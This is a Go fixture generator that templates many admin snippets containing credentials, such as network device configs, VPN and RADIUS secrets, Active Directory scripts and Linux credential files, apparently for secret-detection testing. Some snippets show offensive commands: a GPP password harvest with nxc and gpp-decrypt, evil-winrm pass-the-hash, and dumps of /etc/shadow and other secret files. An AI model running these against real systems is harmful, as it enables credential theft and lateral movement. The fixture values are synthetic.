	g.add("ops/edgeos-config-boot", `
system {
    host-name er-branch3
    login {
        user ubnt {
            authentication {
                encrypted-password «a»
                plaintext-password ""
            }
            level admin
        }
    }
}
vpn {
    ipsec {
        site-to-site {
            peer 203.0.113.14 {
                authentication {
                    mode pre-shared-secret
                    pre-shared-secret «b»
                }
                connection-type initiate
                local-address 198.51.100.33
            }
        }
    }
}
`, V{"a": g.apSHA512Crypt(), "b": g.opsPSK()}, "host-name er-branch3", `plaintext-password ""`)

	g.add("ops/aruba-cx-show-running", `
sw-cx-core1# show running-config | include "user|radius|snmp"
user admin group administrators password ciphertext «a»
user netops group administrators password ciphertext «b»
radius-server host 10.1.1.20 key ciphertext «c» vrf mgmt
snmp-server community «d»
snmp-server vrf mgmt
`, V{"a": "AQBap" + g.s(alB64, 150) + "=", "b": "AQBap" + g.s(alB64, 150) + "=", "c": "AQBap" + g.s(alB64, 70) + "=", "d": g.opsCommunity()},
		"snmp-server vrf mgmt", "sw-cx-core1#")

	g.add("ops/hp-procurve-config", `
; J9729A Configuration Editor; Created on release #WB.16.10.0012
hostname "HP-2920-IDF3"
snmp-server community "«a»" unrestricted
radius-server host 10.1.1.20 key "«b»"
aaa authentication login privilege-mode
password manager user-name "admin" sha1 "«c»"
password operator user-name "operator" sha1 "«d»"
vlan 20
   name "VOICE"
   tagged 1-48
`, V{"a": g.opsCommunity(), "b": g.opsPSK(), "c": g.hex(40), "d": g.hex(40)}, `hostname "HP-2920-IDF3"`, `name "VOICE"`)

	g.add("ops/unifi-radius-profile-json", `
$ curl -sk -b cookies.txt https://unifi.acme.local:8443/api/s/default/rest/radiusprofile | jq '.data[0]'
{
  "_id": "«_id»",
  "name": "NPS",
  "auth_servers": [
    { "ip": "10.1.1.30", "port": 1812, "x_secret": "«a»" }
  ],
  "acct_servers": [
    { "ip": "10.1.1.30", "port": 1813, "x_secret": "«a»" }
  ],
  "site_id": "«_s»"
}
`, V{"_id": g.hex(24), "a": g.opsPSK(), "_s": g.hex(24)}, `"name": "NPS"`)

	g.add("ops/paloalto-xml-api-keygen", `
$ curl -sk -X POST 'https://pa-fw01.acme.local/api/?type=keygen' --data-urlencode 'user=apiadmin' --data-urlencode 'password=«a»'
<response status = 'success'><result><key>«b»</key></result></response>
$ curl -sk -H 'X-PAN-KEY: «b»' 'https://pa-fw01.acme.local/api/?type=op&cmd=<show><system><info></info></system></show>' | xmllint --xpath '//sw-version/text()' -
11.0.3-h3
`, V{"a": g.opsHuman(), "b": "LUFRPT" + g.s(alB64, 90) + "=="}, "11.0.3-h3")
}

// ---- VPNs, RADIUS, first-hop redundancy and routing daemons ----

func (g *G) opsVPN() {
	priv, _ := g.wireguard()
	_, srvPub := g.wireguard()
	g.add("ops/wireguard-client-conf", `
$ sudo cat /etc/wireguard/wg0.conf
[Interface]
PrivateKey = «a»
Address = 10.8.0.14/24
DNS = 10.8.0.1

[Peer]
PublicKey = «_p»
PresharedKey = «b»
Endpoint = vpn.acme.io:51820
AllowedIPs = 10.0.0.0/8, 10.8.0.0/24
PersistentKeepalive = 25
`, V{"a": priv, "_p": srvPub, "b": g.b64(32)}, "Endpoint = vpn.acme.io:51820", "AllowedIPs = 10.0.0.0/8, 10.8.0.0/24")

	priv2, pub2 := g.wireguard()
	g.add("ops/wireguard-genkey-session", `
root@gw01:~# umask 077
root@gw01:~# wg genkey | tee /etc/wireguard/server.key | wg pubkey > /etc/wireguard/server.pub
root@gw01:~# cat /etc/wireguard/server.key
«a»
root@gw01:~# cat /etc/wireguard/server.pub
«_p»
root@gw01:~# wg genpsk > /etc/wireguard/laptop-dana.psk && cat /etc/wireguard/laptop-dana.psk
«b»
`, V{"a": priv2, "_p": pub2, "b": g.b64(32)}, "/etc/wireguard/server.pub")

	priv3, _ := g.wireguard()
	_, p1 := g.wireguard()
	_, p2 := g.wireguard()
	g.add("ops/wireguard-showconf-vs-show", `
root@gw01:~# wg show wg0
interface: wg0
  public key: «_me»
  private key: (hidden)
  listening port: 51820

peer: «_p1»
  preshared key: (hidden)
  endpoint: 198.51.100.23:41822
  allowed ips: 10.8.0.14/32
  latest handshake: 1 minute, 2 seconds ago
  transfer: 1.21 GiB received, 88.40 MiB sent
root@gw01:~# wg showconf wg0
[Interface]
ListenPort = 51820
PrivateKey = «a»

[Peer]
PublicKey = «_p1»
PresharedKey = «b»
AllowedIPs = 10.8.0.14/32
Endpoint = 198.51.100.23:41822

[Peer]
PublicKey = «_p2»
AllowedIPs = 10.8.0.15/32
`, V{"_me": g.b64(32), "_p1": p1, "a": priv3, "b": g.b64(32), "_p2": p2}, "private key: (hidden)", "preshared key: (hidden)")

	ca := g.certPEM()
	crt := g.certPEM()
	key := g.ecPKCS8()
	g.add("ops/openvpn-inline-client-ovpn", `
client
dev tun
proto udp
remote vpn.acme.io 1194
resolv-retry infinite
nobind
remote-cert-tls server
cipher AES-256-GCM
verb 3
<ca>
-----BEGIN CERTIFICATE-----
«_ca»
-----END CERTIFICATE-----
</ca>
<cert>
-----BEGIN CERTIFICATE-----
«_crt»
-----END CERTIFICATE-----
</cert>
<key>
«=kb»
«a»
«=ke»
</key>
<tls-crypt>
-----BEGIN OpenVPN Static key V1-----
«b»
-----END OpenVPN Static key V1-----
</tls-crypt>
`, V{"_ca": ca.body, "_crt": crt.body, "=kb": key.begin, "a": key.body, "=ke": key.end, "b": g.opsOVPNKey()}, "remote vpn.acme.io 1194")

	g.add("ops/openvpn-auth-user-pass-file", `
$ grep -n auth-user-pass /etc/openvpn/client/acme.conf
14:auth-user-pass /etc/openvpn/client/acme.auth
$ sudo cat /etc/openvpn/client/acme.auth
dkowalski
«a»
$ sudo systemctl restart openvpn-client@acme
`, V{"a": g.opsHuman()}, "auth-user-pass /etc/openvpn/client/acme.auth", "openvpn-client@acme")

	g.add("ops/strongswan-ipsec-secrets", `
# /etc/ipsec.secrets - strongSwan IPsec secrets file
203.0.113.5 198.51.100.7 : PSK "«a»"
@moon.acme.io : RSA moonKey.pem
carol@acme.io : EAP "«b»"
jdoe : XAUTH "«c»"
%any : PSK 0x«d»
`, V{"a": g.opsPSK(), "b": g.opsHuman(), "c": g.opsHuman(), "d": g.hex(64)}, "@moon.acme.io : RSA moonKey.pem")

	g.add("ops/strongswan-swanctl-secrets", `
# /etc/swanctl/conf.d/branch.conf
connections {
    branch01 {
        remote_addrs = branch01.acme.io
        local { auth = psk  id = hq.acme.io }
        remote { auth = psk  id = branch01.acme.io }
    }
}
secrets {
    ike-branch01 {
        id-1 = hq.acme.io
        id-2 = branch01.acme.io
        secret = 0s«a»
    }
    eap-dana {
        id = dana@acme.io
        secret = "«b»"
    }
}
`, V{"a": g.b64(32), "b": g.opsHuman()}, "remote_addrs = branch01.acme.io")

	g.add("ops/freeradius-clients-conf", `
client ap-floor2 {
	ipaddr = 10.20.0.0/24
	secret = «a»
	shortname = ap-floor2
	nas_type = other
}

client fw01 {
	ipaddr = 10.0.0.1
	secret = "«b»"
	require_message_authenticator = yes
}
`, V{"a": g.opsPSK(), "b": g.opsPSK()}, "require_message_authenticator = yes", "shortname = ap-floor2")

	g.add("ops/freeradius-authorize-users", `
# /etc/freeradius/3.0/mods-config/files/authorize
jdoe	Cleartext-Password := "«a»"
	Reply-Message := "Hello, %{User-Name}"
svc-vpn	NT-Password := «b»
	Service-Type = Framed-User
DEFAULT	Auth-Type := Reject
`, V{"a": g.opsHuman(), "b": strings.ToUpper(g.hex(32))}, `Reply-Message := "Hello, %{User-Name}"`, "DEFAULT	Auth-Type := Reject")

	g.add("ops/radtest-and-radclient", `
$ radtest jdoe «a» 10.1.1.20 0 «b»
Sent Access-Request Id 77 from 0.0.0.0:48211 to 10.1.1.20:1812 length 74
	User-Name = "jdoe"
	User-Password = "«a»"
	NAS-IP-Address = 127.0.1.1
	NAS-Port = 0
Received Access-Accept Id 77 from 10.1.1.20:1812 to 10.1.1.5:48211 length 20
$ echo "User-Name=svc-test,User-Password=«c»" | radclient -x 10.1.1.20:1812 auth «b»
`, V{"a": g.opsHuman(), "b": g.opsPSK(), "c": g.opsGen(16)}, "Received Access-Accept Id 77")

	g.add("ops/keepalived-vrrp-auth-pass", `
vrrp_instance VI_1 {
    state MASTER
    interface ens192
    virtual_router_id 51
    priority 150
    advert_int 1
    authentication {
        auth_type PASS
        auth_pass «a»
    }
    virtual_ipaddress {
        10.40.0.100/24
    }
}
`, V{"a": g.an(8)}, "virtual_router_id 51", "interface ens192")

	g.add("ops/frr-bgp-ospf-passwords", `
router-01# show running-config
frr version 9.1
frr defaults traditional
hostname router-01
!
interface eth1
 ip ospf authentication message-digest
 ip ospf message-digest-key 1 md5 «a»
exit
!
router bgp 65001
 neighbor 192.0.2.9 remote-as 65002
 neighbor 192.0.2.9 password «b»
 neighbor 192.0.2.9 description peer-dc2
exit
`, V{"a": g.an(14), "b": g.opsPSK()}, "neighbor 192.0.2.9 description peer-dc2", "frr version 9.1")

	g.add("ops/headscale-preauthkey", `
$ headscale preauthkeys create --user ops --reusable --expiration 24h
«a»
$ tailscale up --login-server https://hs.acme.io --authkey «a» --hostname nas-01
`, V{"a": g.hex(48)}, "--login-server https://hs.acme.io", "--hostname nas-01")
}

// ---- Windows and Active Directory ----

func (g *G) opsWindows() {
	g.add("ops/ps-securestring-pscredential", `
$User = "ACME\svc_deploy"
$Pass = ConvertTo-SecureString "«a»" -AsPlainText -Force
$Cred = New-Object System.Management.Automation.PSCredential($User, $Pass)
Invoke-Command -ComputerName app01, app02 -Credential $Cred -ScriptBlock {
    Restart-Service -Name AcmeWorker
}
`, V{"a": g.opsHuman()}, `$User = "ACME\svc_deploy"`, "Restart-Service -Name AcmeWorker")

	g.add("ops/ps-new-aduser-onboarding", docBT(`
Import-Module ActiveDirectory
$initial = '«a»'
New-ADUser -Name "Priya Shah" -GivenName Priya -Surname Shah ˋ
    -SamAccountName pshah -UserPrincipalName pshah@acme.local ˋ
    -Path "OU=Staff,OU=Users,DC=acme,DC=local" ˋ
    -AccountPassword (ConvertTo-SecureString $initial -AsPlainText -Force) ˋ
    -ChangePasswordAtLogon $true -Enabled $true
`), V{"a": g.opsSeason()}, `-Path "OU=Staff,OU=Users,DC=acme,DC=local"`, "pshah@acme.local")

	g.add("ops/ps-bulk-reset-from-csv", `
PS C:\Scripts> Get-Content .\reset-batch-0603.csv
SamAccountName,NewPassword
«=u1»,«a»
«=u2»,«b»
«=u3»,«c»
PS C:\Scripts> Import-Csv .\reset-batch-0603.csv | ForEach-Object {
>>   Set-ADAccountPassword $_.SamAccountName -Reset -NewPassword (ConvertTo-SecureString $_.NewPassword -AsPlainText -Force)
>> }
`, V{"=u1": "akim", "a": g.opsSeason(), "=u2": "bnovak", "b": g.opsSeason(), "=u3": "cwright", "c": g.opsGen(14)},
		"SamAccountName,NewPassword", "$_.NewPassword")

	g.add("ops/cmd-net-user-add-domain", `
C:\Windows\system32>net user svc_sqlbackup «a» /add /domain /comment:"SQL backup job" /passwordchg:no
The request will be processed at a domain controller for domain acme.local.

The command completed successfully.

C:\Windows\system32>net localgroup Administrators ACME\svc_sqlbackup /add
The command completed successfully.
`, V{"a": g.opsGen(18)}, "The request will be processed at a domain controller for domain acme.local.")

	g.add("ops/cmdkey-add-and-list", `
C:\>cmdkey /add:fs01.acme.local /user:ACME\backup_op /pass:«a»
CMDKEY: Credential added successfully.
C:\>cmdkey /generic:TERMSRV/rds01.acme.local /user:ACME\dana /pass:«b»
CMDKEY: Credential added successfully.
C:\>cmdkey /list
Currently stored credentials:
    Target: Domain:target=fs01.acme.local
    Type: Domain Password
    User: ACME\backup_op
`, V{"a": g.opsGen(16), "b": g.opsHuman()}, "Target: Domain:target=fs01.acme.local", "Type: Domain Password")

	adm := g.opsHuman()
	auto := g.opsHuman()
	g.add("ops/unattend-xml-encoded-passwords", `
<component name="Microsoft-Windows-Shell-Setup" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS">
  <UserAccounts>
    <AdministratorPassword>
      <Value>«a»</Value>
      <PlainText>false</PlainText>
    </AdministratorPassword>
  </UserAccounts>
  <AutoLogon>
    <Password>
      <Value>«b»</Value>
      <PlainText>false</PlainText>
    </Password>
    <Enabled>true</Enabled>
    <LogonCount>1</LogonCount>
    <Username>Administrator</Username>
  </AutoLogon>
</component>
`, V{"a": opsUTF16B64(adm + "AdministratorPassword"), "b": opsUTF16B64(auto + "Password")}, `publicKeyToken="31bf3856ad364e35"`, "<LogonCount>1</LogonCount>")

	g.add("ops/unattend-xml-plaintext-domain-join", `
<component name="Microsoft-Windows-UnattendedJoin" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS">
  <Identification>
    <Credentials>
      <Domain>acme.local</Domain>
      <Username>svc_domainjoin</Username>
      <Password>«a»</Password>
    </Credentials>
    <JoinDomain>acme.local</JoinDomain>
    <MachineObjectOU>OU=Workstations,DC=acme,DC=local</MachineObjectOU>
  </Identification>
</component>
<component name="Microsoft-Windows-Shell-Setup">
  <UserAccounts>
    <LocalAccounts>
      <LocalAccount wcm:action="add">
        <Password>
          <Value>«b»</Value>
          <PlainText>true</PlainText>
        </Password>
        <Name>acmeadmin</Name>
        <Group>Administrators</Group>
      </LocalAccount>
    </LocalAccounts>
  </UserAccounts>
</component>
`, V{"a": g.opsGen(20), "b": g.opsHuman()}, "<MachineObjectOU>OU=Workstations,DC=acme,DC=local</MachineObjectOU>")

	g.add("ops/gpp-groups-xml-cpassword", `
PS C:\> Get-Content \\acme.local\SYSVOL\acme.local\Policies\«_gpo»\Machine\Preferences\Groups\Groups.xml
<?xml version="1.0" encoding="utf-8"?>
<Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}"><User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="Administrator (built-in)" image="2" changed="2016-03-14 09:12:44" uid="«_uid»"><Properties action="U" newName="" fullName="" description="" cpassword="«a»" changeLogon="0" noChange="1" neverExpires="1" acctDisabled="0" subAuthority="RID_ADMIN" userName="Administrator (built-in)"/></User>
</Groups>
`, V{"_gpo": g.opsGUIDU(), "_uid": g.opsGUIDU(), "a": g.opsCpassword()}, `subAuthority="RID_ADMIN"`)

	gppPlain := g.opsHuman()
	g.add("ops/gpp-decrypt-output", `
$ nxc smb 10.0.2.10 -u jdoe -p '«c»' -M gpp_password
GPP_PASS... 10.0.2.10  445  DC01  [+] Found credentials in acme.local/Policies/«_gpo»/Machine/Preferences/Groups/Groups.xml
GPP_PASS... 10.0.2.10  445  DC01  Password: «b»
GPP_PASS... 10.0.2.10  445  DC01  action: U
GPP_PASS... 10.0.2.10  445  DC01  userName: Administrator (built-in)
$ gpp-decrypt «a»
«b»
`, V{"c": g.opsHuman(), "_gpo": g.opsGUIDU(), "b": gppPlain, "a": g.opsCpassword()}, "userName: Administrator (built-in)")

	g.add("ops/laps-get-lapsadpassword", `
PS C:\> Get-LapsADPassword -Identity WS-0142 -AsPlainText

ComputerName        : WS-0142
DistinguishedName   : CN=WS-0142,OU=Workstations,DC=acme,DC=local
Account             : Administrator
Password            : «a»
PasswordUpdateTime  : 6/2/2024 11:41:07 PM
ExpirationTimestamp : 7/2/2024 11:41:07 PM
Source              : EncryptedPassword
DecryptionStatus    : Success
AuthorizedDecryptor : ACME\LAPS-Readers
`, V{"a": g.opsLAPS()}, "AuthorizedDecryptor : ACME\\LAPS-Readers", "CN=WS-0142,OU=Workstations,DC=acme,DC=local")

	g.add("ops/laps-legacy-ms-mcs-admpwd", `
PS C:\> Get-ADComputer -Filter 'Name -like "SRV-*"' -Properties ms-Mcs-AdmPwd, ms-Mcs-AdmPwdExpirationTime |
>>   Select-Object Name, ms-Mcs-AdmPwd | Format-Table -AutoSize

Name       ms-Mcs-AdmPwd
----       -------------
SRV-FS01   «a»
SRV-PRN02  «b»
SRV-APP07  «c»
`, V{"a": g.opsLAPS(), "b": g.opsLAPS(), "c": g.opsLAPS()}, "SRV-PRN02")

	g.add("ops/rdp-file-saved-password", `
$ cat ~/Downloads/jumphost.rdp
screen mode id:i:2
full address:s:jump01.acme.local
username:s:ACME\dana.admin
prompt for credentials:i:0
authentication level:i:2
password 51:b:«a»
gatewayhostname:s:rdg.acme.io
`, V{"a": g.opsDPAPI(1200)}, "full address:s:jump01.acme.local", "gatewayhostname:s:rdg.acme.io")

	g.add("ops/winrm-winrs-and-pywinrm", `
C:\> winrs -r:https://hv03.acme.local:5986 -u:ACME\hvadmin -p:«a» "Get-VM | Select Name,State"

import winrm
s = winrm.Session("https://hv03.acme.local:5986/wsman", auth=("ACME\\hvadmin", "«b»"), transport="ntlm",
                  server_cert_validation="ignore")
print(s.run_ps("Get-VM | Select Name,State").std_out.decode())
`, V{"a": g.opsHuman(), "b": g.opsHuman()}, `transport="ntlm"`, "https://hv03.acme.local:5986/wsman")

	g.add("ops/evil-winrm-pass-the-hash", `
$ evil-winrm -i 10.0.2.21 -u administrator -H «a»

Evil-WinRM shell v3.5

Info: Establishing connection to remote endpoint
*Evil-WinRM* PS C:\Users\Administrator\Documents> whoami
acme\administrator
$ evil-winrm -i 10.0.2.22 -u svc_sql -p '«b»'
`, V{"a": g.hex(32), "b": g.opsHuman()}, "Evil-WinRM shell v3.5")

	g.add("ops/dsquery-description-password", `
C:\> dsquery * "OU=Service Accounts,DC=acme,DC=local" -filter "(objectClass=user)" -attr sAMAccountName description
  sAMAccountName    description
  svc_scan          Scanner SMTP relay
  svc_kiosk         kiosk autologon pw: «a»
  svc_print         Print server spooler - pwd «b» (do not change, hardcoded in driver)
  svc_backup        Veeam service account
`, V{"a": g.opsHuman(), "b": g.opsHuman()}, "Scanner SMTP relay", "Veeam service account")

	g.add("ops/ldapsearch-simple-bind", `
$ ldapsearch -x -H ldaps://dc01.acme.local -D "CN=svc-ldapread,OU=Service Accounts,DC=acme,DC=local" -w '«a»' \
    -b "DC=acme,DC=local" "(sAMAccountName=pshah)" memberOf
# pshah, Staff, Users, acme.local
dn: CN=Priya Shah,OU=Staff,OU=Users,DC=acme,DC=local
memberOf: CN=VPN-Users,OU=Groups,DC=acme,DC=local
`, V{"a": g.opsGen(20)}, "memberOf: CN=VPN-Users,OU=Groups,DC=acme,DC=local")

	g.add("ops/ldapmodify-ldif-userpassword", `
$ cat reset-jdoe.ldif
dn: uid=jdoe,ou=people,dc=acme,dc=io
changetype: modify
replace: userPassword
userPassword: «a»
$ ldapmodify -H ldap://ldap01.acme.io -D cn=admin,dc=acme,dc=io -w «b» -f reset-jdoe.ldif
modifying entry "uid=jdoe,ou=people,dc=acme,dc=io"
`, V{"a": g.opsHuman(), "b": g.opsGen(18)}, `modifying entry "uid=jdoe,ou=people,dc=acme,dc=io"`)

	g.add("ops/ldapsearch-output-userpassword-base64", `
$ ldapsearch -LLL -x -H ldap://ldap01.acme.io -D cn=admin,dc=acme,dc=io -y /root/.ldappw -b ou=people,dc=acme,dc=io "(uid=svc-*)" uid userPassword
dn: uid=svc-gitlab,ou=people,dc=acme,dc=io
uid: svc-gitlab
userPassword:: «a»

dn: uid=svc-nextcloud,ou=people,dc=acme,dc=io
uid: svc-nextcloud
userPassword:: «b»
`, V{"a": b64s("{SSHA}" + g.b64(24)), "b": b64s("{SSHA}" + g.b64(24))}, "-y /root/.ldappw", "uid: svc-nextcloud")

	g.add("ops/klist-keytab-with-keys", `
$ sudo klist -k -K -e /etc/krb5.keytab
Keytab name: FILE:/etc/krb5.keytab
KVNO Principal
---- --------------------------------------------------------------------------
   3 host/web01.acme.local@ACME.LOCAL (aes256-cts-hmac-sha1-96)  (0x«a»)
   3 host/web01.acme.local@ACME.LOCAL (aes128-cts-hmac-sha1-96)  (0x«b»)
   3 HTTP/web01.acme.local@ACME.LOCAL (aes256-cts-hmac-sha1-96)  (0x«c»)
`, V{"a": g.hex(64), "b": g.hex(32), "c": g.hex(64)}, "Keytab name: FILE:/etc/krb5.keytab", "HTTP/web01.acme.local@ACME.LOCAL")

	g.add("ops/ktutil-and-kinit-password", `
$ ktutil
ktutil:  addent -password -p svc_airflow@ACME.LOCAL -k 2 -e aes256-cts-hmac-sha1-96
Password for svc_airflow@ACME.LOCAL:
ktutil:  wkt /etc/airflow/svc_airflow.keytab
ktutil:  quit
$ echo '«a»' | kinit svc_reports@ACME.LOCAL
Password for svc_reports@ACME.LOCAL:
$ klist
Ticket cache: FILE:/tmp/krb5cc_1001
Default principal: svc_reports@ACME.LOCAL
`, V{"a": g.opsHuman()}, "Ticket cache: FILE:/tmp/krb5cc_1001", "/etc/airflow/svc_airflow.keytab")

	g.add("ops/smbpasswd-scripted", `
#!/bin/bash
# add scanner account to samba
useradd -M -s /usr/sbin/nologin scanner
(echo "«a»"; echo "«a»") | smbpasswd -a -s scanner
smbpasswd -e scanner
`, V{"a": g.opsHuman()}, "useradd -M -s /usr/sbin/nologin scanner")

	g.add("ops/pdbedit-list-hashes", `
root@fs02:~# pdbedit -L -w
scanner:1003:XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX:«a»:[U          ]:LCT-6650E1A4:
dana:1001:XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX:«b»:[U          ]:LCT-664F0C11:
`, V{"a": strings.ToUpper(g.hex(32)), "b": strings.ToUpper(g.hex(32))}, "XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX", "LCT-6650E1A4")

	g.add("ops/mount-cifs-password-option", `
$ sudo mount -t cifs //fs01.acme.local/Finance /mnt/finance -o username=svc_etl,password=«a»,domain=ACME,vers=3.0,uid=1000
$ df -h /mnt/finance
Filesystem                  Size  Used Avail Use% Mounted on
//fs01.acme.local/Finance   4.0T  2.9T  1.1T  73% /mnt/finance
`, V{"a": g.pwURL()}, "//fs01.acme.local/Finance   4.0T  2.9T  1.1T  73% /mnt/finance")

	g.add("ops/cifs-credentials-file-and-fstab", `
$ grep cifs /etc/fstab
//nas01/backup  /mnt/backup  cifs  credentials=/root/.smbcredentials,vers=3.1.1,_netdev  0  0
$ sudo cat /root/.smbcredentials
username=backup
password=«a»
domain=WORKGROUP
`, V{"a": g.opsHuman()}, "credentials=/root/.smbcredentials", "domain=WORKGROUP")

	g.add("ops/bitlocker-recovery-protectors", `
PS C:\> manage-bde -protectors -get C:
BitLocker Drive Encryption: Configuration Tool version 10.0.22621
Volume C: [OS]
All Key Protectors

    TPM:
      ID: «_t»
      PCR Validation Profile:
        7, 11

    Numerical Password:
      ID: «_n»
      Password:
        «a»
`, V{"_t": g.opsGUIDU(), "_n": g.opsGUIDU(), "a": g.opsBitLocker()}, "PCR Validation Profile:")

	g.add("ops/add-computer-domain-join-script", `
# join-domain.ps1 (run from the imaging task sequence)
$pw   = ConvertTo-SecureString '«a»' -AsPlainText -Force
$cred = [pscredential]::new('ACME\svc_domainjoin', $pw)
Add-Computer -DomainName acme.local -OUPath 'OU=Workstations,DC=acme,DC=local' -Credential $cred -Restart
`, V{"a": g.opsGen(20)}, "Add-Computer -DomainName acme.local")

	g.add("ops/schtasks-run-as-password", `
C:\> schtasks /create /tn "Nightly SQL Backup" /tr "C:\Scripts\sqlbackup.cmd" /sc daily /st 01:30 /ru ACME\svc_sqlbackup /rp «a»
SUCCESS: The scheduled task "Nightly SQL Backup" has successfully been created.
`, V{"a": g.opsGen(18)}, `SUCCESS: The scheduled task "Nightly SQL Backup" has successfully been created.`)

	g.add("ops/sc-config-service-logon", `
C:\> sc.exe config "SQLSERVERAGENT" obj= "ACME\svc_sqlagent" password= "«a»"
[SC] ChangeServiceConfig SUCCESS
C:\> sc.exe qc SQLSERVERAGENT | findstr SERVICE_START_NAME
        SERVICE_START_NAME : ACME\svc_sqlagent
`, V{"a": g.opsHuman()}, "[SC] ChangeServiceConfig SUCCESS")

	g.add("ops/iis-appcmd-apppool-identity", `
C:\Windows\System32\inetsrv> appcmd set apppool /apppool.name:Intranet /processModel.identityType:SpecificUser /processModel.userName:ACME\svc_iis /processModel.password:«a»
APPPOOL object "Intranet" changed
C:\Windows\System32\inetsrv> findstr /i "svc_iis" C:\Windows\System32\inetsrv\config\applicationHost.config
                <processModel identityType="SpecificUser" userName="ACME\svc_iis" password="[enc:IISCngProvider:«b»:enc]" />
`, V{"a": g.opsHuman(), "b": g.b64(96)}, `APPPOOL object "Intranet" changed`)

	g.add("ops/psexec-and-wmic-credentials", `
C:\Tools> PsExec64.exe \\ws-0188 -u ACME\deskadmin -p «a» -h cmd /c "gpupdate /force"
PsExec v2.43 - Execute processes remotely
C:\Tools> wmic /node:10.0.4.77 /user:ACME\deskadmin /password:«b» process call create "cmd.exe /c ipconfig /flushdns"
Executing (Win32_Process)->Create()
Method execution successful.
`, V{"a": g.opsHuman(), "b": g.opsHuman()}, "PsExec v2.43 - Execute processes remotely", "Executing (Win32_Process)->Create()")

	g.add("ops/winlogon-autologon-registry", `
C:\> reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v AutoAdminLogon /t REG_SZ /d 1 /f
C:\> reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultUserName /t REG_SZ /d kiosk /f
C:\> reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword /t REG_SZ /d «a» /f
C:\> reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword

HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon
    DefaultPassword    REG_SZ    «a»
`, V{"a": g.opsHuman()}, "/v AutoAdminLogon /t REG_SZ /d 1 /f")

	g.add("ops/veeam-add-credentials", `
PS C:\> Add-VBRCredentials -User "ACME\svc_veeam" -Password "«a»" -Description "Domain service account for guest processing"
PS C:\> Add-VBRCredentials -Type Linux -User root -Password "«b»" -SshPort 22 -Description "Linux repo"
`, V{"a": g.opsGen(20), "b": g.opsHuman()}, `-Description "Domain service account for guest processing"`)
}

// ---- Linux servers ----

func (g *G) opsLinux() {
	g.add("ops/etc-shadow-lines", `
$ sudo tail -n 6 /etc/shadow
sshd:*:19720:0:99999:7:::
dana:«a»:19872:0:99999:7:::
deploy:«b»:19880:0:99999:7:::
postgres:!:19722::::::
backup:«c»:19901:0:90:7:::
ftp:!!:19722::::::
`, V{"a": g.opsYescrypt(), "b": g.apSHA512Crypt(), "c": g.apSHA512Crypt()}, "sshd:*:19720:0:99999:7:::", "postgres:!:19722::::::")

	g.add("ops/chpasswd-provisioning", `
#!/bin/bash
set -euo pipefail
for u in build01 build02; do
  useradd -m -s /bin/bash "$u" || true
done
echo 'build01:«a»' | chpasswd
echo 'build02:«b»' | chpasswd
chage -d 0 build01
`, V{"a": g.opsHuman(), "b": g.opsHuman()}, "chage -d 0 build01")

	g.add("ops/useradd-openssl-passwd", `
$ sudo useradd -m -G sudo -p "$(openssl passwd -6 '«a»')" ops-oncall
$ openssl passwd -6 -salt «_s» '«b»'
«c»
`, V{"a": g.opsHuman(), "_s": g.s(opsCryptAl[2:], 16), "b": g.opsHuman(), "c": g.apSHA512Crypt()}, "useradd -m -G sudo")

	g.add("ops/htpasswd-file-mixed", `
$ cat /etc/nginx/.htpasswd
admin:«a»
grafana:«b»
legacy:{SHA}«c»
kibana:«d»
`, V{"a": "$apr1$" + g.s(opsCryptAl, 8) + "$" + g.s(opsCryptAl, 22), "b": g.apBcrypt("05"), "c": g.b64(20), "d": g.apBcrypt("10")}, "cat /etc/nginx/.htpasswd")

	g.add("ops/pgpass-file", `
$ cat ~/.pgpass
# hostname:port:database:username:password
db-primary.acme.internal:5432:*:replicator:«a»
db-primary.acme.internal:5432:billing:billing_ro:«b»
localhost:5432:*:postgres:«c»
$ chmod 600 ~/.pgpass
`, V{"a": g.opsGen(24), "b": g.pwURL(), "c": g.opsHuman()}, "# hostname:port:database:username:password")

	g.add("ops/my-cnf-client", `
$ sudo cat /root/.my.cnf
[client]
user=root
password="«a»"
socket=/var/run/mysqld/mysqld.sock

[mysqldump]
user=backup
password=«b»
`, V{"a": g.opsHuman(), "b": g.opsGen(20)}, "socket=/var/run/mysqld/mysqld.sock")

	g.add("ops/netrc-file", `
$ cat ~/.netrc
machine ftp.acme-partner.com
  login acme_upload
  password «a»
machine nexus.acme.internal login deploy password «b»
`, V{"a": g.opsHuman(), "b": g.pwURL()}, "machine ftp.acme-partner.com")

	g.add("ops/rsyncd-secrets-and-client", `
$ sudo cat /etc/rsyncd.secrets
backup:«a»
web:«b»
$ grep -A4 '^\[www\]' /etc/rsyncd.conf
[www]
    path = /srv/www
    auth users = web
    secrets file = /etc/rsyncd.secrets
$ RSYNC_PASSWORD='«b»' rsync -av rsync://web@files01.acme.lan/www/ /srv/mirror/www/
`, V{"a": g.opsHuman(), "b": g.an(16)}, "secrets file = /etc/rsyncd.secrets", "path = /srv/www")

	g.add("ops/postfix-sasl-passwd", `
$ sudo cat /etc/postfix/sasl_passwd
[smtp.office365.com]:587 alerts@acme.com:«a»
[email-smtp.eu-west-1.amazonaws.com]:587 «=ak»:«b»
$ sudo postmap /etc/postfix/sasl_passwd
$ postconf relayhost smtp_sasl_password_maps
relayhost = [smtp.office365.com]:587
smtp_sasl_password_maps = hash:/etc/postfix/sasl_passwd
`, V{"a": g.opsHuman(), "=ak": g.awsID(), "b": "BE" + g.s(alB64, 42)}, "smtp_sasl_password_maps = hash:/etc/postfix/sasl_passwd")

	g.add("ops/dovecot-passwd-file", `
# /etc/dovecot/users (passdb passwd-file)
noreply@acme.io:{PLAIN}«a»::::::
dana@acme.io:{SHA512-CRYPT}«b»:5000:5000::/var/vmail/acme.io/dana::
scanner@acme.io:{CRAM-MD5}«c»:5000:5000::/var/vmail/acme.io/scanner::
